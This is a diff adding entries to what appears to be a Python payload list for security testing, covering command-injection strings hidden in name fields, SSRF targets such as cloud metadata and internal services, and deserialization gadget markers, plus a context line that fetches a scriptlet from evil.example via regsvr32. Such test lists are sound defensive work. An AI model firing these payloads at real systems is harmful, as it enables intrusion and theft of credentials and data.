@@ -204,6 +204,15 @@ SHELL: Final = [
     "& regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll",
     '& rundll32.exe javascript:"\\..\\mshtml"',
     "& wmic process call create calc.exe",
+    "{,ip,a}",
+    "{id,}",
+    "uname$u -a",
+    "alias x='cat /etc/passwd'",
+    "John Smith\ncat /etc/passwd",
+    "Max Mustermann; ps aux",
+    "Max Mustermann; $(id)",
+    "Smith|powershell whoami",
+    'x" | net user',
 ]
 
 PATHS: Final = [
@@ -356,6 +365,12 @@ SERVER_SIDE_REQUESTS: Final = [
     "http://abcdef.burpcollaborator.net",
     "http://a1b2c3.oast.fun/x",
     "url=http://127.0.0.1/",
+    "http://redis:6379/",
+    "http://elasticsearch:9200/_cat/indices",
+    "https://public.example/redirect?to=http://169.254.169.254/latest/",
+    "//[::1]/admin",
+    "localhost/",
+    "kubernetes.default.svc/api",
 ]
 
 CODE: Final = [
@@ -457,6 +472,10 @@ OBJECTS: Final = [
     "org.springframework.context.support.ClassPathXmlApplicationContext",
     "javax.script.ScriptEngineManager",
     "BAhvOhVHZW06OlJlcXVpcmVtZW50BjoSQHJlcXVpcmVtZW50cw==",
+    "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA",
+    "java.beans.EventHandler",
+    "py/object",
+    "py/reduce",
 ]
 
 LOOKUPS: Final = [
